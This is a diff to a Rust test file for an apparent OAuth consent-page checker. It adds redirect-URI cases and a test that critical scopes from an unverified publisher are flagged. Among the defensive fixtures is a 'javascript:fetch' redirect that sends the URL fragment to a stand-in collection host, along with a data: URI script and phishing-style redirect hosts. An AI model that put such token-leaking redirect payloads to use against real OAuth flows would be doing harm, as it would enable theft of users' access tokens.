@@ -341,6 +341,15 @@ fn redirect_checks() {
         (Some("https://build.contoso.com@collect.evil.example/cb"), None, Tier::Low, &[("redirect.userinfo", Caution)]),
         (Some("not a url"), None, Tier::Low, &[("redirect.unreadable", Caution)]),
         (
+            Some("javascript:fetch('//collect.example/'+location.hash)"),
+            None,
+            Tier::Low,
+            &[("redirect.not-web", Caution)],
+        ),
+        (Some("data:text/html,<script>alert(1)</script>"), None, Tier::Low, &[("redirect.not-web", Caution)]),
+        (Some("https://oauth-cb.gitlab.io/cb"), None, Tier::Low, &[("redirect.content-host", Caution)]),
+        (Some("https://app-cb.surge.sh/cb"), None, Tier::Low, &[("redirect.content-host", Caution)]),
+        (
             Some("http://203.0.113.7/cb"),
             None,
             Tier::Low,
@@ -412,6 +421,23 @@ fn policy_blocks_and_approves_client_ids() {
     assert!(review("github", gh, &page(""), &lower).unwrap().1.is_empty());
     let exact = policy(r#"{"blockedClients":{"github":["Ov23liAbC"]}}"#);
     assert_eq!(rules(&review("github", gh, &page(""), &exact).unwrap().1), [("policy.blocked-app", Severity::Danger)]);
+}
+
+#[test]
+fn a_critical_request_from_an_unverified_publisher_is_caution_first() {
+    let none = Policy::default();
+    let url = "https://app.vssps.visualstudio.com/oauth2/authorize?client_id=a&scope=vso.profile%20app_token&redirect_uri=https%3A%2F%2Fbuild.fabrikam.net%2Fcb";
+    let unknown =
+        page("Token Sync would like permission to access your Azure DevOps resources.\nWebsite: https://contoso.com");
+    let (_, findings) = review("azure-devops", url, &unknown, &none).unwrap();
+    assert_eq!(rules(&findings).first(), Some(&("request.critical-unverified", Severity::Caution)), "{findings:?}");
+    let known = page("Token Sync by Contoso Ltd would like permission to access your Azure DevOps resources.\nWebsite: https://fabrikam.net");
+    let (_, findings) = review("azure-devops", url, &known, &none).unwrap();
+    assert!(!rules(&findings).iter().any(|(r, _)| *r == "request.critical-unverified"), "{findings:?}");
+    // A low request from an unknown publisher is no reason for caution.
+    let low = "https://app.vssps.visualstudio.com/oauth2/authorize?client_id=a&scope=vso.profile&redirect_uri=https%3A%2F%2Fbuild.fabrikam.net%2Fcb";
+    let (_, findings) = review("azure-devops", low, &unknown, &none).unwrap();
+    assert!(!rules(&findings).iter().any(|(r, _)| *r == "request.critical-unverified"), "{findings:?}");
 }
 
 #[test]
